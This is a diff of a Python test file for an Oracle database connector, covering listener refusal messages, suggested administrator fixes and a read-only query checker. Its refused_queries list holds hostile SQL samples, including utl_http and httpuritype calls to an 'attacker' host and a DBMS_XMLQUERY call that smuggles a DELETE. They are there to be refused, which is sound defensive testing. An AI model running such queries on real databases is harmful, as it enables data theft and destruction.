@@ -3,11 +3,8 @@ SQL that would be sent, as SQLAlchemy writes it and another parser reads it."""
 
 from __future__ import annotations
 
-import gc
 import re
 import ssl
-import sys
-import threading
 from contextlib import AbstractContextManager
 from dataclasses import replace
 from pathlib import Path
@@ -20,20 +17,18 @@ from sqlalchemy.dialects.oracle import NUMBER
 from sqlalchemy.dialects.oracle.oracledb import OracleDialect_oracledb
 
 from kbconnect.adapters.sources import oracle
-from kbconnect.adapters.sources.dialect import DialectProvider, checked_selection
-from kbconnect.adapters.sources.dialect_check import check
 from kbconnect.adapters.sources.dialect_errors import Edge
 from kbconnect.adapters.sources.dialect_read import DialectReader
 from kbconnect.adapters.sources.dialect_values import kind_of_type, value_of
+from kbconnect.adapters.sources.oracle_refusals import explain
 from kbconnect.core.access import AccessWish, NeededTable
 from kbconnect.core.connector import (
-    CheckStep,
     ConnectorDraft,
     ConnectorOptions,
     Dial,
     Extra,
     ProviderInfo,
-    Secret,
+    StepState,
     TlsMode,
     Verified,
 )
@@ -42,134 +37,88 @@ from kbconnect.core.errors import (
     ColumnMissingError,
     ConnectTimeoutError,
     DatabaseMissingError,
-    DriverMissingError,
     InputError,
     LoginRefusedError,
     PortClosedError,
-    QueryRefusedError,
     SourceConflictError,
     SourceError,
     SourceLostError,
     SourceTimeoutError,
     TableMissingError,
-    TlsError,
 )
-from kbconnect.core.job import InlineContext
-from kbconnect.core.model import ColumnInfo, ColumnKind, QuerySelection, TableRef, TableSelection
+from kbconnect.core.model import ColumnInfo, ColumnKind, TableRef, TableSelection
 from kbconnect.core.ports import CursorWindow, ReadPlan
 from tests.adapters.sources import tds_server, tns_server
+from tests.adapters.sources.driver_edge import LOCAL, DriverEdge, told
 from tests.adapters.sources.sent_sql import Recorded
-from tests.adapters.sources.tds_server import Seen
-from tests.certificates import Certificates, make_certificates
+from tests.adapters.sources.tds_server import Behaviour, Seen
 
 INFO = ProviderInfo("oracle", "Oracle", "Or", 1521, is_file=False, scheme="oracle", verified=Verified.DRIVER)
 DIALECT = oracle.dialect(INFO)
-PASSWORD = "planted-secret-7731"
+
+
+class TestEdge(DriverEdge):
+    dialect = DIALECT
+    module = "oracledb"
+    package = "kbconnect[oracle]"
+    kind = DatabaseMissingError
+    questions = oracle.QUESTIONS
+    refused_queries = (
+        "SELECT utl_http.request('http://attacker/') FROM dual",
+        "SELECT SYS.DBMS_XMLQUERY.getXml('DELETE FROM t') FROM dual",
+        "SELECT httpuritype('http://attacker/').getclob() FROM dual",
+        "SELECT * FROM t FOR UPDATE",
+        "BEGIN DELETE FROM t; END;",
+    )
+
+    def refusing(self, seen: Seen, certificate: Path | None = None) -> Behaviour:
+        return tns_server.refusing(12514, seen, certificate)
+
+    def written(self) -> object:
+        return written()
+
+    @pytest.mark.parametrize("number", [12514, 12505])
+    def test_a_service_the_listener_does_not_know_is_told(self, number: int) -> None:
+        seen = Seen()
+        by_sid = {"extras": (Extra("connect_by", "sid"),)} if number == 12505 else {}
+        with tds_server.serving(tns_server.refusing(number, seen)) as port:
+            assert isinstance(self.refusal(self.draft(port, **by_sid)), DatabaseMissingError)
+            steps = self.steps_of(self.draft(port, **by_sid))
+        # Nobody has signed in yet when the listener looks for the service.
+        assert [(name, step.state) for name, step in steps.items()] == [
+            ("resolve", StepState.PASSED), ("connect", StepState.PASSED), ("tls", StepState.SKIPPED),
+            ("database", StepState.FAILED),
+        ]  # fmt: skip
+        assert {fact.name: fact.value for fact in steps["connect"].facts}["Listener"] == "Oracle 19"
+        assert ("no SID “shop”" if by_sid else "no service “shop”") in steps["database"].detail
+        assert "lsnrctl services" in steps["database"].fix
+        asked = seen.logins[0].upper()
+        assert (b"SID=SHOP" if by_sid else b"SERVICE_NAME=SHOP") in asked
+        assert b"PROGRAM=KBCONNECT" in asked
+
+    @pytest.mark.parametrize(
+        ("number", "step", "said"),
+        [
+            (12541, "login", "No listener of Oracle's"), (12516, "login", "takes no further connections"),
+            (12528, "login", "not open"), (12660, "tls", "Oracle's own network encryption"),
+        ],
+    )  # fmt: skip
+    def test_what_the_listener_refuses_with_is_told(self, number: int, step: str, said: str) -> None:
+        with tds_server.serving(tns_server.refusing(number, Seen())) as port:
+            failed = self.failing(self.draft(port))
+        assert said in failed.detail
+        assert failed.name == ("login" if step == "tls" else step)  # the step of encryption was told before
+
+    def test_a_port_that_takes_encrypted_connections_alone_is_told(self) -> None:
+        alert = b"\x15\x03\x01\x00\x02\x02\x0a\0"
+        with tds_server.serving(tds_server.answering(alert)) as port:
+            failed = self.failing(self.draft(port))
+        assert (failed.name, "takes encrypted connections alone" in failed.detail) == ("tls", True)
 
 
 def draft(port: int, **options: object) -> ConnectorDraft:
     chosen = ConnectorOptions(connect_timeout_s=1, **options)  # type: ignore[arg-type]  # by field
-    return ConnectorDraft("Shop", "oracle", "127.0.0.1", port, "reader", "shop", chosen)
-
-
-def refusal(connector: ConnectorDraft) -> SourceError:
-    with pytest.raises(SourceError) as caught, DialectProvider(DIALECT).open(connector, Secret(PASSWORD)):
-        pass
-    assert PASSWORD not in f"{caught.value.message}{caught.value.hint}{caught.value.detail}"
-    assert caught.value.hint
-    return caught.value
-
-
-def steps_of(connector: ConnectorDraft) -> dict[str, CheckStep]:
-    report = check(DIALECT, connector, Secret(PASSWORD), lambda _: None, InlineContext())
-    return {step.name: step for step in report.steps}
-
-
-@pytest.mark.parametrize("number", [12514, 12505])
-def test_a_service_the_listener_does_not_know_is_told(number: int) -> None:
-    seen = Seen()
-    by_sid = {"extras": (Extra("connect_by", "sid"),)} if number == 12505 else {}
-    with tds_server.serving(tns_server.refusing(number, seen)) as port:
-        assert isinstance(refusal(draft(port, **by_sid)), DatabaseMissingError)
-        steps = steps_of(draft(port, **by_sid))
-    assert [name for name, step in steps.items() if not step.ok] == ["database"]
-    asked = seen.logins[0].upper()
-    assert (b"SID=SHOP" if by_sid else b"SERVICE_NAME=SHOP") in asked
-    assert b"PROGRAM=KBCONNECT" in asked
-
-
-@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
-def test_something_else_on_the_port_is_no_server() -> None:
-    """The driver leaves its socket to the garbage collector, which Python warns of."""
-    for behave in (tds_server.hang_up, tds_server.talk_rubbish):
-        with tds_server.serving(behave) as port:
-            assert isinstance(refusal(draft(port)), (PortClosedError, SourceLostError))
-            steps = steps_of(draft(port))
-        assert [name for name, step in steps.items() if not step.ok] == ["login"]
-    gc.collect()
-
-
-@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
-def test_a_server_that_says_nothing_is_given_up() -> None:
-    """The driver itself would wait for ever; it leaves its socket to the garbage collector, which Python warns of."""
-    with tds_server.serving(tds_server.stay_silent) as port:
-        assert isinstance(refusal(draft(port)), ConnectTimeoutError)
-        steps = steps_of(draft(port))
-        assert [name for name, step in steps.items() if not step.ok] == ["login"]
-    for thread in threading.enumerate():
-        if thread.name == "connecting":
-            thread.join(20)  # the server has hung up
-            assert not thread.is_alive()
-    gc.collect()
-
-
-def test_a_closed_port_is_told() -> None:
-    with tds_server.serving(tds_server.hang_up) as port:
-        pass
-    assert isinstance(refusal(draft(port)), PortClosedError)
-    assert list(steps_of(draft(port))) == ["resolve", "connect"]
-
-
-@pytest.fixture(scope="module")
-def certificates(tmp_path_factory: pytest.TempPathFactory) -> Certificates:
-    return make_certificates(tmp_path_factory.mktemp("tns"))
-
-
-@pytest.fixture(scope="module")
-def pem(certificates: Certificates) -> Path:
-    file = certificates.server_file.parent / "both.pem"
-    file.write_bytes(certificates.server_file.read_bytes() + certificates.server_key_file.read_bytes())
-    return file
-
-
-@pytest.mark.parametrize(
-    ("mode", "authority", "host", "is_asked"),
-    [
-        (TlsMode.REQUIRE, "", "127.0.0.1", True),
-        (TlsMode.VERIFY_CA, "ours", "elsewhere.example", True),
-        (TlsMode.VERIFY_FULL, "ours", "127.0.0.1", True),
-        (TlsMode.VERIFY_FULL, "ours", "elsewhere.example", False),
-        (TlsMode.VERIFY_CA, "other", "127.0.0.1", False),
-        (TlsMode.VERIFY_FULL, "", "127.0.0.1", False),
-    ],
-)
-def test_the_certificate_is_checked_before_anything_is_said(
-    certificates: Certificates, pem: Path, mode: TlsMode, authority: str, host: str, is_asked: bool
-) -> None:
-    seen = Seen()
-    file = {"ours": str(certificates.ca_file), "other": str(certificates.other_ca_file), "": ""}[authority]
-    with tds_server.serving(tns_server.refusing(12514, seen, pem)) as port:
-        connector = replace(draft(port, tls=mode, tls_ca_file=file), host=host, dial=Dial("127.0.0.1", port))
-        error = refusal(connector)
-    assert bool(seen.logins) is is_asked
-    assert isinstance(error, DatabaseMissingError if is_asked else TlsError)
-
-
-def test_encryption_that_is_demanded_is_never_given_up() -> None:
-    seen = Seen()
-    with tds_server.serving(tns_server.refusing(12514, seen)) as port:
-        assert isinstance(refusal(draft(port, tls=TlsMode.REQUIRE)), (TlsError, PortClosedError))
-    assert b"SERVICE_NAME" not in b"".join(seen.logins)
+    return ConnectorDraft("Shop", "oracle", LOCAL, port, "reader", "shop", chosen)
 
 
 def test_the_driver_is_told_where_and_how() -> None:
@@ -194,13 +143,6 @@ def test_certificates_that_can_not_be_read_are_named(tmp_path: Path) -> None:
         oracle.connect_arguments(wallet, INFO)
 
 
-def test_a_missing_driver_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setitem(sys.modules, "oracledb", None)
-    with pytest.raises(DriverMissingError) as caught, DialectProvider(DIALECT).open(draft(1), None):
-        pass
-    assert "pip install 'kbconnect[oracle]'" in caught.value.hint
-
-
 class _Said:
     """What the driver hangs on its errors."""
 
@@ -217,12 +159,51 @@ class _Said:
         ("ORA-01031", "", AccessDeniedError), ("ORA-12541", "", PortClosedError),
         ("ORA-12170", "", ConnectTimeoutError), ("ORA-01555", "", SourceConflictError),
         ("ORA-03113", "", SourceLostError), ("ORA-01013", "", SourceTimeoutError),
-        ("DPY-6000", "listener refused connection\nORA-12514: no such service", DatabaseMissingError),
+        ("DPY-6000", "DPY-6000: Listener refused connection. (Similar to ORA-12528)", PortClosedError),
+        ("DPY-6005", "DPY-6005: no.\nDPY-6000: Listener refused. (Similar to ORA-12541)", PortClosedError),
+        ("DPY-6005", "DPY-6005: cannot connect to database (CONNECTION_ID=x).\nDPY-3010: not supported", SourceError),
+        ("DPY-6005", "DPY-6005: cannot connect to database.\n[Errno 111] Connection refused", PortClosedError),
     ],
 )  # fmt: skip
 def test_codes_of_the_server_have_meanings(code: str, message: str, kind: type[SourceError]) -> None:
     with pytest.raises(kind), Edge(DIALECT, (oracledb.Error,)).translated():
         raise oracledb.DatabaseError(_Said(code, message))
+
+
+@pytest.mark.parametrize(
+    ("code", "said", "fix"),
+    [
+        ("ORA-01017", "refused the login of reader", "WHERE username = 'READER'"),
+        ("ORA-28000", "locked", "ALTER USER READER ACCOUNT UNLOCK;"),
+        ("ORA-28001", "expired", 'ALTER USER READER IDENTIFIED BY "…";'),
+        ("ORA-01045", "may not sign in", "GRANT CREATE SESSION TO READER;"),
+        ("ORA-12514", "no service “shop”", "ALTER SYSTEM REGISTER;"),
+        ("ORA-12541", "No listener", "lsnrctl start"),
+        ("ORA-01034", "not open", "v$instance"),
+        ("ORA-12519", "no further connections", "v$resource_limit"),
+        ("DPY-3001", "network encryption", "network_service_banner"),
+        ("DPY-3010", "older than Oracle 12.1", ""),
+        ("DPY-3015", "form of Oracle 10g", "password_versions"),
+        ("DPY-4001", "none was given", ""),
+        ("DPY-4011", "broke off the connection", "TCP.INVITED_NODES"),
+        ("ORA-28009", "SYSDBA", ""),
+    ],
+)
+def test_a_refusal_has_its_own_words(code: str, said: str, fix: str) -> None:
+    error = explain(draft(1), code, f"words of {code}")
+    assert said in told(error, code)
+    assert error is not None
+    assert fix in error.fix
+    assert explain(draft(1), "ORA-00000", "") is None
+
+
+def test_names_in_lines_to_copy_are_quoted() -> None:
+    error = explain(replace(draft(1), username="o'Neil x"), "ORA-28000", "")
+    login = explain(replace(draft(1), username="o'Neil x"), "ORA-01017", "")
+    assert error is not None
+    assert login is not None
+    assert error.fix == 'ALTER USER "o\'Neil x" ACCOUNT UNLOCK;'
+    assert "WHERE username = 'o''Neil x'" in login.fix
 
 
 # --------------------------------------------------------------------------------------------------- SQL
@@ -269,34 +250,6 @@ def test_the_statements_are_those_of_oracle() -> None:
     assert DIALECT.begin == ("SET TRANSACTION READ ONLY",)
 
 
-@pytest.mark.parametrize(
-    "statement",
-    [
-        DIALECT.row_estimates, DIALECT.readable, DIALECT.schemas, DIALECT.version,
-        *(question.statement for question in oracle.QUESTIONS),
-    ],
-)  # fmt: skip
-def test_what_is_asked_of_the_catalogue_can_be_parsed_and_only_reads(statement: str) -> None:
-    parsed = sqlglot.parse(statement, read="oracle")
-    assert len(parsed) == 1
-    assert isinstance(parsed[0], sqlglot.exp.Query)
-
-
-@pytest.mark.parametrize(
-    "sql",
-    [
-        "SELECT utl_http.request('http://attacker/') FROM dual",
-        "SELECT SYS.DBMS_XMLQUERY.getXml('DELETE FROM t') FROM dual",
-        "SELECT httpuritype('http://attacker/').getclob() FROM dual",
-        "SELECT * FROM t FOR UPDATE",
-        "BEGIN DELETE FROM t; END;",
-    ],
-)
-def test_queries_that_do_more_than_read_are_refused(sql: str) -> None:
-    with pytest.raises(QueryRefusedError):
-        checked_selection(DIALECT, QuerySelection(sql))
-
-
 def test_the_script_grants_reading_of_what_is_needed() -> None:
     wish = AccessWish("KB_READER", (NeededTable(TABLE, ("ID",)), NeededTable(TableRef("", "B"))))
     made = oracle.script(Recorded(written(), answer="SHOP"), wish)  # type: ignore[arg-type]  # records
@@ -305,12 +258,12 @@ def test_the_script_grants_reading_of_what_is_needed() -> None:
     assert "grant a view" in made.notes[0]
 
 
-def test_what_the_account_could_do_is_named() -> None:
-    powers = DIALECT.powers
-    assert powers is not None
-    found = powers(Recorded(written(), answer=1))  # type: ignore[arg-type]  # records
-    assert "DBA" in found[0].sentence
-    assert powers(Recorded(written(), answer=0)) == ()  # type: ignore[arg-type]  # records
+def test_lines_that_let_this_account_read_name_the_tables() -> None:
+    grants = DIALECT.grants
+    assert grants is not None
+    connection = Recorded(written(), answer="READER")
+    assert grants(connection, [TABLE]) == 'GRANT READ ON "SHOP"."Order" TO "READER";'  # type: ignore[arg-type]  # records
+    assert 'TO "READER";' in grants(connection, [])  # type: ignore[arg-type]  # records
 
 
 @pytest.mark.parametrize(
